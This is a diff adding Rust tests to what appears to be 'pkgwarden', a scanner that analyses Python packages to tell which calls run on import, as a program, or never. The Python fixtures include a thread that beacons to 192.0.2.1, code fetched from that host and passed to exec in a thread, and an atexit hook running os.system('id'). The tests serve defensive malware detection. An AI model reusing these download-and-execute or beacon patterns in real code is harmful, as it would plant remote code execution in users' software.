@@ -111,3 +111,27 @@ fn encoder_round_trips_fold_to_their_text() {
     assert!(exec.arg_labels().has(Labels::DECODED), "{exec:#?}");
     assert_eq!(exec.args[0].text.as_deref(), Some("print(1)"));
 }
+
+#[test]
+fn a_main_block_runs_as_a_program_but_not_on_import() {
+    let f = facts("import os\ndef main():\n    os.system('a')\nos.getcwd()\nif __name__ == '__main__':\n    main()\n");
+    let call = |name: &str| f.calls.iter().find(|c| c.callee == name).unwrap();
+    let system = call("os.system");
+    assert!(!system.on_load && system.on_main, "{system:?}");
+    let getcwd = call("os.getcwd");
+    assert!(getcwd.on_load && getcwd.on_main, "{getcwd:?}");
+}
+
+#[test]
+fn functions_handed_to_threads_and_exit_hooks_run() {
+    let f = facts("import threading, atexit, os, requests\ndef beacon():\n    requests.get('http://192.0.2.1/b')\nthreading.Thread(target=beacon).start()\ndef later():\n    code = requests.get('http://192.0.2.1/c').text\n    threading.Thread(target=exec, args=(code, {})).start()\natexit.register(os.system, 'id')\n");
+    let get = f.calls.iter().find(|c| c.line == 3).unwrap();
+    assert!(get.on_load, "{get:?}");
+    // `exec` handed to a thread is a call of exec with the thread's arguments.
+    let exec = f.calls.iter().find(|c| c.callee == "exec").unwrap();
+    assert_eq!(exec.line, 7);
+    assert!(!exec.on_load, "later() is never called: {exec:?}");
+    assert!(exec.args[0].labels.has(pkgwarden::lang::facts::Labels::DOWNLOADED));
+    let system = f.calls.iter().find(|c| c.callee == "os.system").unwrap();
+    assert_eq!(system.args[0].text.as_deref(), Some("id"));
+}
